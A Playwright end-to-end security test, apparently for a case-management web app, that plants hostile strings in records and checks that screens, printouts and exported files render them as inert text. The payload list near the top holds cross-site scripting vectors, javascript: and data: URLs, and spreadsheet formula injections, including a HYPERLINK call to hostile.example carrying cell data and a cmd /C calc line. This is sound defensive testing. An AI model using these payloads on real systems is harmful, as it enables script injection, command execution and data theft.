import { readFile } from 'node:fs/promises'
import type { Page } from '@playwright/test'
import type { Desk } from '#apps/cli/client.ts'
import { addresses, to } from './addresses.ts'
import { quickCentre } from './centre.ts'
import { writeEveryKind } from './every-kind.ts'
import { expect, test } from './story.ts'
import { walk } from './walk.ts'
import { atWork, press, saved, signIn } from './worker.ts'
import { words } from './words.ts'

test.use({ keeps: false })

/** A text that is a program for some reader: a browser, a spreadsheet, our own sentences, the eye. `n` tells one from another. */
const hostile: readonly ((n: number) => string)[] = [
  (n) => `<img src="/hostile-${n}" onerror="hostile(${n})">`,
  (n) => `"><script src="/hostile-${n}.js"></script><b data-hostile>${n}</b>`,
  (n) => `</title></textarea><svg onload=hostile(${n})>`,
  (n) => `javascript:hostile(${n})`,
  (n) => `{x, select, other {${n}}} {count, plural, one {#}} '{`,
  (n) => `=HYPERLINK("http://hostile.example/?"&A1,"${n}")`,
  (n) => `+cmd|' /C calc'!A${n}`,
  (n) => `-2+3+${n}`,
  (n) => `@SUM(${n},1)*cmd`,
  (n) => `\t=1+${n}`,
  (n) => `\r=1+${n}`,
  (n) => `\u202Eelitsoh${n}\u2066\u200B\u200D\uFEFF`,
  (n) => `nothing\0behind${n}`,
  (n) => `${n}${'Щ'.repeat(180)}`,
  (n) => `' onmouseover='hostile(${n})' style='position:fixed;inset:0`,
  (n) => `data:text/html,<script>hostile(${n})</script>`,
]

/** What the page may not hold, whatever was written in the records. */
async function wrongOn(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const found = [
      ...document.querySelectorAll(
        '[onerror],[onload],[onmouseover],[onclick],[data-hostile],[src*=hostile],[href*=hostile],iframe,object,embed,base,svg[onload]',
      ),
    ].map((each) => each.outerHTML.slice(0, 160))
    for (const link of document.querySelectorAll<HTMLAnchorElement>('a[href], area[href]')) {
      const { protocol, origin } = new URL(link.href)
      if (origin !== location.origin && !/^tel:[+\d*#]+$/.test(link.href)) found.push(`leads to ${protocol} ${link.href.slice(0, 80)}`)
    }
    // a word without an end does not push the page apart
    const over = document.documentElement.scrollWidth - innerWidth
    if (over > 1) found.push(`wider than the window by ${over}`)
    for (const one of document.querySelectorAll('[style]'))
      if ((one as HTMLElement).style.position === 'fixed' && one.textContent?.includes('hostile')) found.push('is laid over the page')
    return found
  })
}

declare global {
  var hostile: (n: unknown) => void
}

test('whatever is written in a record is text: on every screen, on paper, in a file', async ({ house, desk }) => {
  let n = 0
  const planted: string[] = []
  const text = (most: number): string => {
    n++
    const one = hostile[n % hostile.length]!(n).slice(0, most)
    planted.push(one)
    return one
  }
  const [name, head, title] = [text(200), text(120), hostile[0]!(0).slice(0, 40)]
  const centre = await quickCentre(house, { centre: name, display: title, head })
  const others: Desk[] = []
  for (const role of ['psychologist', 'lawyer', 'medic'] as const) others.push(await centre.hire(role, text(120)))
  const { caseId, left } = await writeEveryKind([centre.head, ...others], text)
  expect(left, 'kinds that took none').toEqual([])

  const { page } = await desk()
  const said: string[] = []
  const asked: string[] = []
  page.on('dialog', (dialog) => {
    said.push(`dialog ${dialog.type()}`)
    void dialog.dismiss()
  })
  page.on('request', (request) => {
    const url = request.url().replace(/^blob:/, '')
    if (!url.startsWith(`${house.staffUrl}/`) || url.includes('hostile')) asked.push(url)
  })
  page.on('console', (message) => {
    if (message.type() === 'error') said.push(message.text())
  })
  await page.addInitScript(() => {
    const held: string[] = []
    Object.assign(globalThis, { held, papers: [] as string[], hostile: (which: unknown) => held.push(`ran ${String(which)}`) })
    addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) => held.push(`${violatedDirective} ${blockedURI}`))
    window.print = () => void (globalThis as unknown as { papers: string[] }).papers.push(document.body.lastElementChild?.textContent ?? '')
  })
  await page.goto(house.staffUrl)
  await signIn(page, centre.papersOf(centre.head), true)
  await atWork(page)
  await saved(page)
  const wrong: string[] = []
  let shown = ''
  // Each sort of paper once, where it is met first. The two that are left out hold no word of a record: roles and hours, and a
  // card that is the same for everybody.
  const papersToPrint = new Set([
    words('children')('collect.print'),
    words('children')('for-her.print'),
    words('obstacles')('print'),
    words('help')('card'),
  ])
  const print = async (name: string): Promise<void> => {
    await page.getByRole('main').getByRole('button', { name, exact: true }).first().click()
    await page.getByRole('dialog').locator('[data-autofocus]').click()
    await expect(page.getByRole('dialog')).toHaveCount(0)
  }
  const look = async (where: string): Promise<void> => {
    for (const each of await wrongOn(page)) wrong.push(`${where}: ${each}`)
    if ((await page.title()) !== title) wrong.push(`${where}: another title`)
    shown += await page.evaluate(
      () =>
        document.body.textContent +
        [...document.querySelectorAll<HTMLInputElement | HTMLTextAreaElement>('input, textarea')].map(({ value }) => value).join('\n'),
    )
    const here = await page.locator('main button').allTextContents()
    for (const name of papersToPrint) if (here.includes(name) && papersToPrint.delete(name)) await print(name)
  }
  await walk(page, await addresses(page), look)
  // what is looked for is marked in what is found
  await page.keyboard.press('Control+k')
  await page.keyboard.type('hostile')
  await expect(page.getByRole('option').first()).toBeVisible()
  await look('search')
  await page.keyboard.press('Escape')

  // all that is held about her, as paper and as a file
  await to(page, `/pack/${caseId}`)
  const erasure = words('erasure')
  await page.getByText(erasure('pack.proof.knows_her'), { exact: true }).click()
  await page.getByText(erasure('pack.place.with_us'), { exact: true }).click()
  await print(erasure('pack.print'))
  const download = page.waitForEvent('download')
  await press(page, erasure('pack.save'))
  const file = await readFile(await (await download).path(), 'utf8')
  expect((await download).suggestedFilename()).toMatch(/^\d{4}-\d\d-\d\d\.html$/)

  const held = await page.evaluate(() => (globalThis as unknown as { held: string[] }).held)
  const papers = await page.evaluate(() => (globalThis as unknown as { papers: string[] }).papers)
  expect({ wrong, held, asked, said }).toEqual({ wrong: [], held: [], asked: [], said: [] })
  expect(planted.filter((each) => shown.includes(each)).length, 'hostile texts that she reads as they were written').toBeGreaterThan(100)
  expect([...papersToPrint], 'papers that were not met').toEqual([])
  expect(papers.length).toBe(5)
  expect(planted.filter((each) => papers.join().includes(each)).length, 'hostile texts on paper').toBeGreaterThan(40)

  // the file is opened where nothing of ours protects it
  const away = await desk()
  await away.page.addInitScript(() => Object.assign(globalThis, { hostile: (which: unknown) => (document.title = `ran ${String(which)}`) }))
  away.page.on('request', (request) => asked.push(request.url()))
  await away.page.setContent(file)
  expect(await wrongOn(away.page)).toEqual([])
  expect(await away.page.locator('script').count()).toBe(0)
  expect(await away.page.title()).toMatch(/^\d{4}-\d\d-\d\d$/)
  expect(planted.filter((each) => file.includes(each)).length, 'unspoilt in the file: those without signs of HTML').toBeGreaterThan(5)
  expect(asked).toEqual([])
})
